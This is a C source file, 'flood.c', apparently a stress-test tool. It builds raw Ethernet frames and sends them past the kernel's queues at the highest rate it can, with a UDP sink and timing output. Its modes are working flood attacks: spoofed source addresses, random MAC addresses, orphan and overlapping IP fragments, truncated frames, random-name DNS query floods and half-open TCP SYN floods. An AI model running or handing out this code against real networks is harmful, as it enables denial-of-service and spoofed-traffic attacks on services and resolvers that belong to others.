/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * One machine that sends as many frames as it can, past the queues of its own kernel.
 *
 *	flood send KIND INTERFACE COUNT SOURCE GATEWAY-MAC SERVICE PORT RESOLVER [CPU]
 *	flood sink ADDRESS PORT
 *
 * SOURCE is the machine's own address, SERVICE and PORT what it may reach by TCP and UDP, RESOLVER whom it may ask. No
 * two frames of a kind are alike, as far as that kind has anything to choose. Kinds:
 *
 *	random		from its own address to any address and port, UDP
 *	spoofed		from any address
 *	strangers	from any MAC address
 *	first		first fragments to the service, each of a datagram of its own
 *	later		later fragments, of datagrams that nobody has begun
 *	overlap		a first fragment to the service, and then one that overlaps it
 *	tiny		what is left of such a frame as in `random` when it is cut, between 14 bytes and all headers
 *	dns		queries to the resolver, each for another name and from another port
 *	syn		connections to the service that are only begun, each from another port
 *
 * `send` ends after COUNT frames, or at SIGTERM, and prints `sent N ns N cpu-ns N`: frames that the interface took, time,
 * CPU time of the thread with what softirqs it ran. `sink` takes what comes by UDP, and answers nothing; it says `here`. 2: usage or a failed system call.
 */
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define EXIT_TROUBLE   2
#define BATCH	       64
#define SMALLEST       60 /* on a wire, without the checksum */
#define FRAGMENT_BYTES 64
#define MORE_FRAGMENTS 0x2000
#define PORT_DNS       53

struct frame {
	struct ethhdr ether;
	struct iphdr ip;
	union {
		struct udphdr udp;
		struct tcphdr tcp;
		uint8_t bytes[FRAGMENT_BYTES];
	};
} __attribute__((packed));

struct attacker {
	int fd;
	uint8_t mac[ETH_ALEN], gateway[ETH_ALEN];
	uint32_t source, service, resolver; /* network order */
	uint16_t port_be;
	uint64_t random;
	uint32_t n; /* frames so far */
};

static volatile sig_atomic_t stopped;

static void stop(int signal)
{
	(void)signal;
	stopped = 1;
}

/* xorshift64: neither secret nor good, but fast, and the same in each run. */
static uint64_t next_random(struct attacker *a)
{
	a->random ^= a->random << 13;
	a->random ^= a->random >> 7;
	a->random ^= a->random << 17;
	return a->random;
}

static uint16_t random_port_be(struct attacker *a)
{
	return htons((uint16_t)(1024 + next_random(a) % 64000));
}

/* Somewhere that is no group, no network of this machine's and not its own; of 2^24 addresses. */
static uint32_t random_address(struct attacker *a)
{
	return htonl((198u << 24) | (next_random(a) & 0xffffff));
}

/* ---------------------------------------------------------------------------------------- building */

static uint16_t header_sum(const struct iphdr *ip)
{
	uint16_t words[sizeof(*ip) / 2];
	uint32_t sum = 0;

	memcpy(words, ip, sizeof(words));
	for (size_t i = 0; i < sizeof(*ip) / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* @length of what is behind the IP header. */
static size_t seal(struct frame *f, const struct attacker *a, uint32_t from, uint32_t to,
		   uint8_t protocol, size_t length, uint16_t fragment)
{
	struct iphdr ip = {
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.id = htons((uint16_t)a->n),
		.tot_len = htons((uint16_t)(sizeof(ip) + length)),
		.frag_off = htons(fragment),
		.protocol = protocol,
		.saddr = from,
		.daddr = to,
	};
	size_t size = sizeof(f->ether) + sizeof(ip) + length;

	ip.check = header_sum(&ip);
	f->ip = ip;
	return size < SMALLEST ? SMALLEST : size;
}

static void put_udp(struct frame *f, uint16_t from_be, uint16_t to_be, size_t length)
{
	f->udp = (struct udphdr){.source = from_be, .dest = to_be, .len = htons((uint16_t)length)};
}

static size_t make_random(struct attacker *a, struct frame *f)
{
	put_udp(f, random_port_be(a), random_port_be(a), 18);
	return seal(f, a, a->source, random_address(a), IPPROTO_UDP, 18, 0);
}

static size_t make_spoofed(struct attacker *a, struct frame *f)
{
	put_udp(f, random_port_be(a), a->port_be, 18);
	return seal(f, a, random_address(a), a->service, IPPROTO_UDP, 18, 0);
}

static size_t make_strangers(struct attacker *a, struct frame *f)
{
	uint64_t mac = next_random(a);

	memcpy(f->ether.h_source, &mac, ETH_ALEN);
	f->ether.h_source[0] = 0x06; /* of nobody who has one from a manufacturer, and no group */
	return make_random(a, f);
}

/* The sum that UDP would need is left out: there may be none. */
static size_t make_first(struct attacker *a, struct frame *f)
{
	put_udp(f, random_port_be(a), a->port_be, 1000);
	return seal(f, a, a->source, a->service, IPPROTO_UDP, FRAGMENT_BYTES, MORE_FRAGMENTS);
}

static size_t make_later(struct attacker *a, struct frame *f)
{
	uint16_t at = (uint16_t)(1 + next_random(a) % 100);

	return seal(f, a, a->source, a->service, IPPROTO_UDP, FRAGMENT_BYTES, MORE_FRAGMENTS | at);
}

/* Two frames have one datagram: the numbers of both come from the even one. */
static size_t make_overlap(struct attacker *a, struct frame *f)
{
	bool second = a->n & 1;
	size_t size;

	a->n &= ~1u;
	put_udp(f, a->port_be, a->port_be, 1000);
	size = seal(f, a, a->source, a->service, IPPROTO_UDP, FRAGMENT_BYTES,
		    (uint16_t)(MORE_FRAGMENTS | (second ? FRAGMENT_BYTES / 8 / 2 : 0)));
	a->n |= second;
	return size;
}

static size_t make_tiny(struct attacker *a, struct frame *f)
{
	size_t headers = sizeof(f->ether) + sizeof(f->ip) + sizeof(f->udp);

	make_random(a, f);
	return ETH_HLEN + next_random(a) % (headers - ETH_HLEN);
}

static size_t make_dns(struct attacker *a, struct frame *f)
{
	static const uint8_t query[] = {0, 0,	1,   0,	  0,   1,   0,	 0,   0,
					0, 0,	0,				   /* header */
					8, 'x', 'x', 'x', 'x', 'x', 'x', 'x', 'x', /* at 13 */
					7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0,   /* */
					0, 1,	0,   1};
	uint8_t *at = f->bytes + sizeof(f->udp);
	uint64_t random = next_random(a);

	memcpy(at, query, sizeof(query));
	memcpy(at, &random, 2);
	for (int i = 0; i < 8; i++, random >>= 4)
		at[13 + i] = (uint8_t)('a' + (random & 15));
	put_udp(f, random_port_be(a), htons(PORT_DNS), sizeof(f->udp) + sizeof(query));
	return seal(f, a, a->source, a->resolver, IPPROTO_UDP, sizeof(f->udp) + sizeof(query), 0);
}

static uint16_t tcp_sum(const struct frame *f)
{
	struct {
		uint32_t from, to;
		uint16_t protocol_be, length_be;
		struct tcphdr tcp;
	} all = {f->ip.saddr, f->ip.daddr, htons(IPPROTO_TCP), htons(sizeof(f->tcp)), f->tcp};
	uint16_t words[sizeof(all) / 2];
	uint32_t sum = 0;

	memcpy(words, &all, sizeof(words));
	for (size_t i = 0; i < sizeof(all) / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static size_t make_syn(struct attacker *a, struct frame *f)
{
	size_t size;

	f->tcp = (struct tcphdr){
		.source = random_port_be(a),
		.dest = a->port_be,
		.seq = (uint32_t)next_random(a),
		.doff = 5,
		.syn = 1,
		.window = htons(65535),
	};
	size = seal(f, a, a->source, a->service, IPPROTO_TCP, sizeof(f->tcp), 0);
	f->tcp.check = tcp_sum(f);
	return size;
}

static const struct kind {
	const char *name;
	size_t (*make)(struct attacker *a, struct frame *f); /* its size */
} kinds[] = {
	{"random", make_random}, {"spoofed", make_spoofed}, {"strangers", make_strangers},
	{"first", make_first},	 {"later", make_later},	    {"overlap", make_overlap},
	{"tiny", make_tiny},	 {"dns", make_dns},	    {"syn", make_syn},
};

static const struct kind *kind_of(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (!strcmp(kinds[i].name, name))
			return &kinds[i];
	}
	errx(EXIT_TROUBLE, "%s: no such kind", name);
}

/* ----------------------------------------------------------------------------------------- sending */

static uint64_t ns_of(clockid_t clock)
{
	struct timespec now;

	clock_gettime(clock, &now);
	return (uint64_t)now.tv_sec * 1000000000ull + (uint64_t)now.tv_nsec;
}

static void open_interface(struct attacker *a, const char *interface)
{
	struct sockaddr_ll link = {.sll_family = AF_PACKET};
	struct ifreq request = {0};
	int one = 1;

	/* protocol 0: it hears nothing */
	a->fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (a->fd < 0)
		err(EXIT_TROUBLE, "packet socket");
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (ioctl(a->fd, SIOCGIFHWADDR, &request))
		err(EXIT_TROUBLE, "%s", interface);
	memcpy(a->mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
	link.sll_ifindex = (int)if_nametoindex(interface);
	if (bind(a->fd, (struct sockaddr *)&link, sizeof(link)) ||
	    setsockopt(a->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		err(EXIT_TROUBLE, "%s", interface);
}

static uint32_t address_of(const char *text)
{
	struct in_addr address;

	if (inet_pton(AF_INET, text, &address) != 1)
		errx(EXIT_TROUBLE, "%s is no address", text);
	return address.s_addr;
}

static void run_on(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET((unsigned int)cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		err(EXIT_TROUBLE, "CPU %d", cpu);
}

/* How many of them the interface took: all of them, in the end. */
static void transmit(const struct attacker *a, struct mmsghdr *messages, unsigned int n)
{
	for (unsigned int done = 0; done < n;) {
		int got = sendmmsg(a->fd, messages + done, n - done, 0);

		if (got < 0 && errno != ENOBUFS && errno != EAGAIN)
			err(EXIT_TROUBLE, "send");
		done += got > 0 ? (unsigned int)got : 0;
	}
}

static int send_all(char **words, int n_words)
{
	const struct kind *kind = kind_of(words[0]);
	struct attacker a = {.random = 0x9e3779b97f4a7c15ull};
	static struct frame frames[BATCH];
	struct mmsghdr messages[BATCH] = {0};
	struct iovec parts[BATCH];
	uint32_t count = (uint32_t)atol(words[2]);
	uint64_t since, since_cpu;

	open_interface(&a, words[1]);
	a.source = address_of(words[3]);
	if (sscanf(words[4], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &a.gateway[0], &a.gateway[1],
		   &a.gateway[2], &a.gateway[3], &a.gateway[4], &a.gateway[5]) != ETH_ALEN)
		errx(EXIT_TROUBLE, "%s is no MAC address", words[4]);
	a.service = address_of(words[5]);
	a.port_be = htons((uint16_t)atoi(words[6]));
	a.resolver = address_of(words[7]);
	if (n_words > 8)
		run_on(atoi(words[8]));
	for (unsigned int i = 0; i < BATCH; i++) {
		memcpy(frames[i].ether.h_dest, a.gateway, ETH_ALEN);
		memcpy(frames[i].ether.h_source, a.mac, ETH_ALEN);
		frames[i].ether.h_proto = htons(ETH_P_IP);
		parts[i].iov_base = &frames[i];
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	signal(SIGTERM, stop);
	since = ns_of(CLOCK_MONOTONIC);
	since_cpu = ns_of(CLOCK_THREAD_CPUTIME_ID);
	while (a.n < count && !stopped) {
		unsigned int batch = count - a.n < BATCH ? count - a.n : BATCH;

		for (unsigned int i = 0; i < batch; i++, a.n++)
			parts[i].iov_len = kind->make(&a, &frames[i]);
		transmit(&a, messages, batch);
	}
	printf("sent %u ns %llu cpu-ns %llu\n", a.n,
	       (unsigned long long)(ns_of(CLOCK_MONOTONIC) - since),
	       (unsigned long long)(ns_of(CLOCK_THREAD_CPUTIME_ID) - since_cpu));
	return 0;
}

/* ------------------------------------------------------------------------------------------ taking */

static void sink(char **words)
{
	struct sockaddr_in at = {.sin_family = AF_INET,
				 .sin_port = htons((uint16_t)atoi(words[1]))};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char bytes[2048];

	at.sin_addr.s_addr = address_of(words[0]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)))
		err(EXIT_TROUBLE, "%s", words[0]);
	puts("here");
	fflush(stdout);
	for (;;) {
		if (recv(fd, bytes, sizeof(bytes), 0) < 0)
			err(EXIT_TROUBLE, "receive");
	}
}

int main(int argc, char **argv)
{
	if (argc >= 10 && !strcmp(argv[1], "send"))
		return send_all(argv + 2, argc - 2);
	if (argc == 4 && !strcmp(argv[1], "sink"))
		sink(argv + 2);
	fprintf(stderr, "usage: see the head of flood.c\n");
	return EXIT_TROUBLE;
}
